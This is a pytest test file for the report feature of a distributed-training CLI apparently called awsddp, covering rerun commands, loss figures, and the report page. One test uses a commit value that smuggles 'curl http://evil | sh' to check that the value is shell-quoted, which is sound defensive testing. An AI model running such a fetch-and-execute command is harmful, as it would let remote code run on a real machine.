"""The report of a job: the document, its page, and the commands that run the job again."""

import json

import pytest

from awsddp.errors import NotFoundError
from awsddp.job.jobs import make_jobs_document
from awsddp.job.report import write_report as report
from awsddp.storage.results_dir import make_job_result, read_job
from tests.support.ended_cluster import Home
from tests.support.event_file import record


def test_the_report_has_the_commands_that_run_the_job_again(home: Home) -> None:
    home.job("one", 100, args=["a b", "--x"], resumed="before", options=["-o", "job.timeout=1h"])
    assert list(report(home.session(), job="one").again) == [
        "git checkout 0123456789abcdef",
        "awsddp --region eu-west-1 up --nodes 2 --instance-type g5.xlarge",
        "awsddp train --timeout 1h --resume before train.py -- 'a b' --x",
        "awsddp down",
    ]


def test_all_documents_show_the_same_loss_of_a_job(home: Home) -> None:
    folder = home.job("one", 100)
    losses = {0: (3.0, 2.0, 2.5), 1: (1.0, 0.5, 0.75), 2: (9.0, 8.0, 8.5), 3: (0.1, 0.2, 0.3)}
    for node in (0, 1):
        rows = [
            {"rank": rank, "step": step, "loss": losses[rank][step], "accuracy": 1 / losses[rank][step]}
            for step in range(3)
            for rank in (2 * node, 2 * node + 1)
        ]
        (folder / f"node{node}/run/metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    document, job = report(home.session(), job="one"), read_job(folder)
    (row,) = make_jobs_document(home.session(), ()).jobs
    assert job is not None and document.measures["loss"] == {"last": 2.5, "best": 2.0}
    assert {document.loss, row.loss, make_job_result(home.session(), job, folder=folder).loss} == {2.5}
    assert document.accuracy == document.measures["accuracy"]["last"] == 1 / 2.5


def test_options_of_up_are_not_repeated_for_train(home: Home) -> None:
    home._rows[0]["asked"] = {"cluster.nodes": 2, "env.file": "requirements.txt"}
    env = ["-o", "env.file=requirements.txt", "-o", "env.python=/usr/bin/python3.12"]
    home.job("one", 100, options=env)
    assert list(report(home.session(), job="one").again)[1:3] == [
        "awsddp --region eu-west-1 up --nodes 2 --instance-type g5.xlarge --env requirements.txt",
        "awsddp train -o env.python=/usr/bin/python3.12 train.py -- --epochs 3",
    ]


def test_a_commit_from_a_node_is_quoted_in_the_command(home: Home) -> None:
    home.job("one", 100, commit="x; curl http://evil | sh")
    assert report(home.session(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"


def test_a_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
    folder = home.job("one", 100, started=None, ended=None, commit=None, script=None)
    for path in (*folder.rglob("*.log"), *folder.rglob("metrics.jsonl")):
        path.unlink()
    session = home.session()
    (home.cluster / "ledger.jsonl").unlink()
    document = report(session, job="one")
    assert (document["job_usd"], document["cluster"], document["seconds"]) == (None, None, None)
    assert "<svg" not in (folder / "report.html").read_text()


def test_the_loss_is_read_from_event_files_if_there_are_no_metrics(home: Home) -> None:
    folder = home.job("one", 100)
    for file in folder.rglob("metrics.jsonl"):
        file.unlink()
    events_dir = folder / "node1" / "runs"
    events_dir.mkdir()
    events = b"".join(record(step, (b"train/loss", 4.0 / step)) for step in (1, 2, 4))
    (events_dir / "events.out.tfevents.1.host").write_bytes(events)
    assert report(home.session(), job="one")["measures"] == {"loss": {"last": 1.0, "best": 1.0}}
    assert (folder / "report.html").read_text().count("<polyline") == 1


def test_report_without_a_name_is_for_the_last_job(home: Home) -> None:
    folder = home.job("one", 200)
    home.job("two", 100)
    session = home.session()
    assert report(session)["job"] == "one"
    assert "<code>one</code>" in (folder / "report.html").read_text()


def test_an_unknown_job_is_refused_with_the_command_that_lists_all(home: Home) -> None:
    with pytest.raises(NotFoundError, match="no job none") as error:
        report(home.session(), job="none")
    assert error.value.next.startswith("awsddp jobs ")
